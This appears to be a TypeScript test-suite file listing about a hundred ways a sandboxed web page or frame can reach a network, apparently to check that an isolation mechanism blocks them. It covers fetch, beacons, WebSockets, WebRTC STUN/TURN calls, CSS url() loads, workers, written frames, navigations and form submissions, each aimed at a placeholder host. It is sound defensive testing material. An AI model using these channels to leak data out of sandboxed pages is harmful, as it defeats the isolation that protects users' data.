/**
 * Ways by which a page may try to reach a network. `code` is the body of an async function of
 * `host`, a name of the attack's own, `url` there, and `udp`, an address with a port of its own.
 */
export interface Attack {
  name: string
  /** Set if it takes its frame or the whole page away, and so needs one of its own. */
  leaves?: 'frame' | 'top'
  code: string
}

const html = (content: string): string =>
  `document.body.insertAdjacentHTML('beforeend', \`${content}\`)`
const style = (rules: string): string => html(`<style>${rules}</style><p class="\${id}">x</p>`)
const link = (attributes: string): string => html(`<link ${attributes} href="\${url}">`)
const inner = (content: string): string => `<body>${content}`
const frameOf = (kind: string, content: string): string => {
  const source = {
    srcdoc: 'frame.srcdoc = content',
    data: "frame.src = 'data:text/html,' + encodeURIComponent(content)",
    blob: "frame.src = URL.createObjectURL(new Blob([content], { type: 'text/html' }))",
  }[kind]
  return `const frame = document.createElement('iframe'); const content = \`${content}\`
    ${String(source)}; document.body.append(frame)`
}
const worker = (script: string, type = 'Worker', options = ''): string =>
  `new ${type}(URL.createObjectURL(new Blob([\`${script}\`], { type: 'text/javascript' }))${options})`
const call = (scope: string, server: string): string => `
  const connection = new ${scope}.RTCPeerConnection({ iceServers: [${server}] })
  connection.createDataChannel('x')
  await connection.setLocalDescription(await connection.createOffer())
  await new Promise((done) => setTimeout(done, 1000))`
const stun = "{ urls: 'stun:' + host }"
const turn = "{ urls: 'turn:' + host + '?transport=tcp', username: 'a', credential: 'b' }"
const click = (attributes: string, before = ''): string =>
  `const a = document.createElement('a'); a.href = url; ${before}
   Object.assign(a, ${attributes}); document.body.append(a); a.click()`
const form = (attributes: string): string =>
  `const form = document.createElement('form'); form.action = url
   Object.assign(form, ${attributes}); form.innerHTML = '<input name="a" value="b">'
   document.body.append(form); form.submit()`

const page: Record<string, string> = {
  fetch: 'fetch(url)',
  'fetch without CORS': "fetch(url, { mode: 'no-cors', method: 'POST', body: 'x' })",
  'fetch over http': "fetch('http://' + host)",
  'fetch kept alive': 'fetch(url, { keepalive: true })',
  'fetch to a port': "fetch('http://' + host + ':8443/')",
  'fetch of a redirect': "fetch('/redirect?' + url)",
  'later fetch': 'fetchLater(url, { activateAfter: 0 })',
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('GET', url); x.send()",
  beacon: "navigator.sendBeacon(url, 'x')",
  EventSource: 'new EventSource(url)',
  WebSocket: "new WebSocket('wss://' + host)",
  'WebSocket in the clear': "new WebSocket('ws://' + host)",
  WebTransport: 'await new WebTransport(url).ready',
  image: 'new Image().src = url',
  'image in markup': html('<img src="${url}">'),
  'image set': html('<img srcset="${url} 1x">'),
  'picture source': html('<picture><source srcset="${url}"><img></picture>'),
  'input image': html('<input type="image" src="${url}">'),
  'body background': html('<table background="${url}"><tr><td>x</table>'),
  audio: html('<audio src="${url}" preload="auto"></audio>'),
  video: html('<video src="${url}" preload="auto"></video>'),
  poster: html('<video poster="${url}"></video>'),
  'media source': html('<video preload="auto"><source src="${url}"></video>'),
  object: html('<object data="${url}"></object>'),
  embed: html('<embed src="${url}">'),
  'SVG image': html('<svg><image href="${url}" width="9" height="9"/></svg>'),
  'SVG filter image': html(
    '<svg><filter id="f${id}"><feImage href="${url}"/></filter><rect width="9" height="9" filter="url(#f${id})"/></svg>',
  ),
  'SVG script':
    "const s = document.createElementNS('http://www.w3.org/2000/svg', 'script'); s.setAttribute('href', url); const v = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); v.append(s); document.body.append(v)",
  script: "const s = document.createElement('script'); s.src = url; document.body.append(s)",
  'module script':
    "const s = document.createElement('script'); s.type = 'module'; s.src = url; document.body.append(s)",
  'inline module':
    "const s = document.createElement('script'); s.type = 'module'; s.text = `import '${url}'`; document.body.append(s)",
  'dynamic import': 'await import(url)',
  eval: "(0, eval)('fetch(\"' + url + '\")')",
  'new Function': "new Function('fetch(\"' + url + '\")')()",
  'document.write':
    'const f = document.createElement("iframe"); document.body.append(f); f.contentDocument.write(`<img src="${url}">`)',
  'style sheet': link('rel="stylesheet"'),
  preload: link('rel="preload" as="image"'),
  'preload of a fetch': link('rel="preload" as="fetch" crossorigin'),
  prefetch: link('rel="prefetch"'),
  modulepreload: link('rel="modulepreload"'),
  'CSS import': style('@import "${url}";'),
  'CSS background': style('.${id} { background: url(${url}) }'),
  'CSS font': style(
    '@font-face { font-family: ${id}; src: url(${url}) } .${id} { font-family: ${id} }',
  ),
  'CSS cursor': style('.${id} { cursor: url(${url}), auto }'),
  'CSS list': style('.${id} { display: list-item; list-style-image: url(${url}) }'),
  'CSS border': style('.${id} { border: 9px solid; border-image: url(${url}) 9 }'),
  'CSS mask': style('.${id} { mask: url(${url}) }'),
  'CSS content': style('.${id}::before { content: url(${url}) }'),
  'CSS shape': style('.${id} { float: left; shape-outside: url(${url}) }'),
  'CSS image set': style('.${id} { background: image-set(url(${url}) 1x) }'),
  'CSS variable': style('.${id} { --u: url(${url}); background: var(--u) }'),
  'style attribute': html('<p style="background: url(${url})">x</p>'),
  'constructed style sheet':
    'const s = new CSSStyleSheet(); s.replaceSync(`body { border-image-source: url(${url}) }`); document.adoptedStyleSheets.push(s)',
  worker: "new Worker(URL.createObjectURL(new Blob([`importScripts('${url}')`])))",
  'fetch in a worker': worker("fetch('${url}')"),
  'socket in a worker': worker("new WebSocket('wss://${host}')"),
  'transport in a worker': worker("new WebTransport('${url}')"),
  'module worker': worker("import '${url}'", 'Worker', ", { type: 'module' }"),
  'worker in a worker': worker(
    "new Worker(URL.createObjectURL(new Blob([\\`fetch('${url}')\\`])))",
  ),
  'shared worker': worker("fetch('${url}')", 'SharedWorker'),
  'audio worklet': 'await new AudioContext().audioWorklet.addModule(url)',
  'paint worklet': 'await CSS.paintWorklet.addModule(url)',
  'frame in the frame': html('<iframe src="${url}"></iframe>'),
  'image in a written frame': frameOf('srcdoc', inner('<img src="${url}">')),
  'fetch in a written frame': frameOf('srcdoc', inner('<script>fetch("${url}")<\\/script>')),
  'frame in a written frame': frameOf('srcdoc', inner('<iframe src="${url}"></iframe>')),
  'refresh in a written frame': frameOf(
    'srcdoc',
    '<meta http-equiv="refresh" content="0; url=${url}">',
  ),
  'socket in a written frame': frameOf(
    'srcdoc',
    inner('<script>new WebSocket("wss://${host}")<\\/script>'),
  ),
  'image in a data frame': frameOf('data', inner('<img src="${url}">')),
  'fetch in a blob frame': frameOf('blob', inner('<script>fetch("${url}")<\\/script>')),
  'frame that is navigated':
    "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = url",
  'form into a frame':
    "const f = document.createElement('iframe'); f.name = id; document.body.append(f); " +
    form('{ target: id }'),
  'link into a frame':
    "const f = document.createElement('iframe'); f.name = id; document.body.append(f); " +
    click('{ target: id }'),
  ping: click('{ ping: url }', "a.href = '#x';"),
  'new window': 'open(url)',
  'new window without opener': "open(url, '_blank', 'noopener')",
  'link to a new window': click("{ target: '_blank' }"),
  'form to a new window': form("{ target: '_blank' }"),
  'call by a STUN server': call('window', stun),
  'call by a TURN server': call('window', turn),
  'call by an address': call('window', "{ urls: 'stun:' + udp }"),
  'call in a blank frame':
    "const f = document.createElement('iframe'); document.body.append(f);" +
    call('f.contentWindow', stun),
  'call in a written frame': frameOf(
    'srcdoc',
    inner(`<script>onload = async () => {
      const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:\${host}" }] })
      c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer()) }<\\/script>`),
  ),
}

const leavingFrame: Record<string, string> = {
  location: 'location = url',
  'location.assign': 'location.assign(url)',
  'location.replace': 'location.replace(url)',
  'location.host': "location.host = host + ':80'",
  'navigation API': 'navigation.navigate(url)',
  link: click('{}'),
  'link without referrer': click("{ rel: 'noreferrer' }"),
  'link in SVG': `document.body.insertAdjacentHTML('beforeend', \`<svg><a href="\${url}"><text>x</text></a></svg>\`)
    document.querySelector('svg a').dispatchEvent(new MouseEvent('click', { bubbles: true }))`,
  download: click("{ download: 'x' }"),
  form: form("{ method: 'get' }"),
  'form by POST': form("{ method: 'post' }"),
  'form with another action': `const form = document.createElement('form')
    form.innerHTML = '<button formaction="' + url + '">'; document.body.append(form)
    form.requestSubmit(form.firstChild)`,
  refresh: `document.head.insertAdjacentHTML('beforeend',
    \`<meta http-equiv="refresh" content="0; url=\${url}">\`)`,
  'open in itself': "open(url, '_self')",
  'javascript address': "location = `javascript:fetch('${url}')`",
  'redirect by its own server': "location = '/redirect?' + url",
  'base and a link': `document.head.insertAdjacentHTML('beforeend', \`<base href="\${url}">\`)
    const a = document.createElement('a'); a.href = 'x'; document.body.append(a); a.click()`,
}

const leavingTop: Record<string, string> = {
  'open in the parent': "open(url, '_parent')",
  'open in the top': "open(url, '_top')",
  'top location': 'top.location = url',
  'parent location': 'parent.location.replace(url)',
  'form to the top': form("{ target: '_top' }"),
  'link to the top': click("{ target: '_top' }"),
}

const listOf = (given: Record<string, string>, leaves?: Attack['leaves']): Attack[] =>
  Object.entries(given).map(([name, code]) => ({ name, code, ...(leaves && { leaves }) }))

/** The list. Each one leaks from a frame without defences. */
export const attacks: readonly Attack[] = [
  ...listOf(page),
  ...listOf(leavingFrame, 'frame'),
  ...listOf(leavingTop, 'top'),
]
